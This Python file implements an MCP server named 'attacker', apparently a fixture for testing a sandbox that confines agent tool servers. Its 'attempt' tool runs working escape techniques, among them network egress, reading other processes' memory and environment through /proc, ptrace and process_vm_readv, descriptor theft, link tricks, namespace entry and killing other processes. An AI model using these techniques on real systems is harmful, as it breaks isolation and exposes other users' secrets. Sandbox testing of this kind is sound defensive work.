"""An MCP server that tries to get out: a script of its own. Its one tool `attempt` makes the attempt of that name against the targets that
it is told, and answers with whatever it got hold of, or with why not."""

import ctypes
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import urllib.request
from collections.abc import Callable, Mapping
from contextlib import ExitStack, suppress
from pathlib import Path
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
Facts = Mapping[str, Any]
ATTEMPTS: dict[str, Callable[[Facts], object]] = {}
SECONDS = 3.0


def attempt(work: Callable[[Facts], object]) -> Callable[[Facts], object]:
    """One way out; it returns what it got."""
    ATTEMPTS[work.__name__] = work
    return work


def failing(answer: int) -> int:
    """A C function's answer, which is an OSError where it is below zero."""
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


def heard(family: int, kind: int, address: object, said: bytes = b"GET / HTTP/1.0\r\n\r\n") -> bytes:
    """What somebody answers there."""
    with socket.socket(family, kind) as one:
        one.settimeout(SECONDS)
        if kind == socket.SOCK_DGRAM and family == socket.AF_UNIX:
            one.bind("")
        one.connect(address)  # type: ignore[arg-type]
        one.send(said)
        return one.recv(4096)


@attempt
def tcp(facts: Facts) -> object:
    return heard(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", facts["tcp"]))


@attempt
def tcp_over_ipv6(facts: Facts) -> object:
    return heard(socket.AF_INET6, socket.SOCK_STREAM, ("::1", facts["tcp6"]))


@attempt
def ipv4_inside_ipv6(facts: Facts) -> object:
    return heard(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", facts["tcp"]))


@attempt
def udp(facts: Facts) -> object:
    return heard(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", facts["udp"]))


@attempt
def dns(facts: Facts) -> object:
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x10\x00\x01"
    return heard(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", facts["udp"]), question)


@attempt
def fast_open(facts: Facts) -> object:
    """Data with the first packet, by a call that is not connect."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, ("127.0.0.1", facts["tcp"]))
        return one.recv(4096)


@attempt
def proxy_variables(_: Facts) -> object:
    """The entry has named a proxy in the environment."""
    with urllib.request.urlopen("http://far.example/", timeout=SECONDS) as answer:
        return answer.read()


@attempt
def a_redirect(facts: Facts) -> object:
    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with direct.open(f"http://127.0.0.1:{facts['redirects']}/", timeout=SECONDS) as answer:
        return answer.read()


@attempt
def listening_itself(facts: Facts) -> object:
    """A port that others of this machine could come in by."""
    one = socket.create_server(("127.0.0.1", facts["free"]))
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"], pass_fds=(one.fileno(),))
    return "listening"


@attempt
def abstract_socket(facts: Facts) -> object:
    return heard(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + facts["abstract"])


@attempt
def unix_socket_in_tmp(facts: Facts) -> object:
    return heard(socket.AF_UNIX, socket.SOCK_STREAM, facts["unix_hidden"])


@attempt
def unix_socket_in_the_workspace(facts: Facts) -> object:
    return heard(socket.AF_UNIX, socket.SOCK_STREAM, facts["unix_shown"])


@attempt
def unix_datagram(facts: Facts) -> object:
    return heard(socket.AF_UNIX, socket.SOCK_DGRAM, facts["datagram"])


@attempt
def a_joined_pair_turned_elsewhere(facts: Facts) -> object:
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with one, other:
        one.sendto(b"from a pair", facts["datagram"])
    return "sent"


@attempt
def netlink(_: Facts) -> object:
    """The names of the network's interfaces."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        one.settimeout(SECONDS)
        one.send(struct.pack("IHHII", 32, 18, 0x301, 1, 0) + bytes(16))
        return one.recv(65536).replace(b"\0", b" ")


@attempt
def raw_socket(_: Facts) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.settimeout(SECONDS)
        one.sendto(struct.pack("BBHHH", 8, 0, 0xF7FF, 0, 0), ("127.0.0.1", 0))
        one.recv(4096)
        return "open"


@attempt
def packet_socket(_: Facts) -> object:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as one:
        names = [name for _, name in socket.if_nameindex()]
        one.bind((next(name for name in names if name != "lo"), 0))
        return "open"


@attempt
def io_uring(_: Facts) -> object:
    os.close(failing(libc.syscall(425, 8, ctypes.create_string_buffer(120))))
    return "open"


@attempt
def environment_of_playnex(facts: Facts) -> object:
    return Path(f"/proc/{facts['playnex']}/environ").read_bytes()


@attempt
def environment_of_another(facts: Facts) -> object:
    return Path(f"/proc/{facts['victim']}/environ").read_bytes()


@attempt
def command_line_of_another(facts: Facts) -> object:
    return Path(f"/proc/{facts['victim']}/cmdline").read_bytes()


@attempt
def memory_of_another(facts: Facts) -> object:
    with open(f"/proc/{facts['victim']}/mem", "rb", buffering=0) as memory:
        memory.seek(facts["at"])
        return memory.read(64)


@attempt
def root_of_another(facts: Facts) -> object:
    return Path(f"/proc/{facts['victim']}/root{facts['home']}/key").read_text()


@attempt
def descriptors_of_another(facts: Facts) -> object:
    return Path(f"/proc/{facts['victim']}/fd/{facts['descriptor']}").read_text()


@attempt
def a_stolen_descriptor(facts: Facts) -> object:
    mine = failing(libc.syscall(438, os.pidfd_open(facts["victim"]), facts["descriptor"], 0))
    return os.pread(mine, 100, 0)


@attempt
def ptrace(facts: Facts) -> object:
    failing(libc.ptrace(16, facts["victim"], None, None))
    os.waitpid(facts["victim"], 0x40000000)
    word = struct.pack("q", libc.ptrace(1, facts["victim"], ctypes.c_void_p(facts["at"]), None) & 0xFFFFFFFF)
    libc.ptrace(17, facts["victim"], None, None)
    return "open " + word.decode(errors="replace")


@attempt
def process_vm_readv(facts: Facts) -> object:
    mine = ctypes.create_string_buffer(64)
    here = (ctypes.c_uint64 * 2)(ctypes.addressof(mine), 64)
    there = (ctypes.c_uint64 * 2)(facts["at"], 64)
    failing(libc.process_vm_readv(facts["victim"], here, 1, there, 1, 0))
    return mine.raw


@attempt
def priority_of_another(facts: Facts) -> object:
    os.setpriority(os.PRIO_PROCESS, facts["victim"], 19)
    return "done"


@attempt
def limits_of_another(facts: Facts) -> object:
    resource.prlimit(facts["victim"], resource.RLIMIT_CORE, (0, 0))
    return "done"


@attempt
def keyring(facts: Facts) -> object:
    key = failing(libc.syscall(250, 10, ctypes.c_long(-4), b"user", facts["key"].encode(), 0))
    text = ctypes.create_string_buffer(100)
    failing(libc.syscall(250, 11, key, text, 100))
    return text.value


@attempt
def shared_memory(facts: Facts) -> object:
    libc.shmat.restype = ctypes.c_void_p
    at = libc.shmat(failing(libc.shmget(facts["segment"], 0, 0)), None, 0x1000)
    if at == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return ctypes.string_at(at, 64)


@attempt
def shared_memory_file(facts: Facts) -> object:
    return Path(facts["dev_shm"]).read_text()


@attempt
def reading_the_home(facts: Facts) -> object:
    return Path(facts["home"], "key").read_text()


@attempt
def listing_the_home(facts: Facts) -> object:
    return os.listdir(facts["home"])


@attempt
def reading_the_store(facts: Facts) -> object:
    return Path(facts["store"]).read_text()


@attempt
def reading_through_a_link(facts: Facts) -> object:
    link = Path(facts["out"], "to-the-store")
    link.symlink_to(facts["store"])
    return link.read_text()


@attempt
def reading_through_a_hard_link(facts: Facts) -> object:
    link = Path(facts["out"], "the-key")
    os.link(Path(facts["home"], "key"), link)
    return link.read_text()


@attempt
def writing_into_the_workspace(facts: Facts) -> object:
    return Path(facts["workspace"], "planted").write_text("x")


@attempt
def writing_elsewhere(facts: Facts) -> object:
    return Path(facts["elsewhere"], "planted").write_text("x")


@attempt
def writing_through_a_link(facts: Facts) -> object:
    link = Path(facts["out"], "leads-out")
    link.symlink_to(Path(facts["workspace"], "planted-by-link"))
    return link.write_text("x")


@attempt
def cutting_a_file(facts: Facts) -> object:
    os.truncate(Path(facts["workspace"], "note"), 0)
    return "done"


@attempt
def moving_a_file(facts: Facts) -> object:
    os.rename(Path(facts["workspace"], "moved"), Path(facts["out"], "moved"))
    return "done"


@attempt
def opening_a_file_to_all(facts: Facts) -> object:
    os.chmod(Path(facts["workspace"], "note"), 0o777)
    return "done"


@attempt
def giving_a_file_away(facts: Facts) -> object:
    """What only root's rights allow."""
    path = Path(facts["out"], "given")
    path.write_text("x")
    os.chown(path, 4321, 4321)
    return "done"


@attempt
def a_user_namespace(_: Facts) -> object:
    """Root in a world of its own, which would be the way to mount what one likes."""
    child = os.fork()
    if child == 0:
        with suppress(OSError):
            failing(libc.unshare(0x10020000))
            failing(libc.mount(b"none", b"/proc/self", b"tmpfs", 0, None))
            os._exit(0)
        os._exit(1)
    return "open" if os.waitpid(child, 0)[1] == 0 else "closed"


@attempt
def the_namespaces_of_another(facts: Facts) -> object:
    with ExitStack() as opened:
        for kind, flag in (("net", 0x40000000), ("mnt", 0x00020000)):
            descriptor = os.open(f"/proc/{facts['victim']}/ns/{kind}", os.O_RDONLY)
            opened.callback(os.close, descriptor)
            failing(libc.setns(descriptor, flag))
    return "open"


@attempt
def signalling_another(facts: Facts) -> object:
    os.kill(facts["killed"], signal.SIGKILL)
    return "done"


@attempt
def asking_another_to_end(facts: Facts) -> object:
    signal.pidfd_send_signal(os.pidfd_open(facts["also_killed"]), signal.SIGTERM)
    return "done"


def main() -> None:
    """Serve until the input ends."""
    for line in sys.stdin:
        message = json.loads(line)
        if "id" in message:
            say({"jsonrpc": "2.0", "id": message["id"], "result": result(message["method"], message.get("params") or {})})


def result(method: str, params: Mapping[str, Any]) -> dict[str, Any]:
    """The answer to a request."""
    if method == "initialize":
        about = {"name": "attacker", "version": "1"}
        return {"protocolVersion": "2025-11-25", "capabilities": {"tools": {}}, "serverInfo": about}
    if method == "tools/list":
        schema = {"type": "object", "properties": {"name": {"type": "string"}, "facts": {"type": "object"}}}
        return {"tools": [{"name": "attempt", "description": "Try to get out.", "inputSchema": schema}]}
    given = params["arguments"]
    try:
        text = str(ATTEMPTS[given["name"]](given["facts"]))
    except Exception as fault:  # whatever keeps it in
        text = f"refused: {type(fault).__name__}: {fault}"
    return {"content": [{"type": "text", "text": text}]}


def say(message: Mapping[str, Any]) -> None:
    """One line."""
    sys.stdout.write(json.dumps(message) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
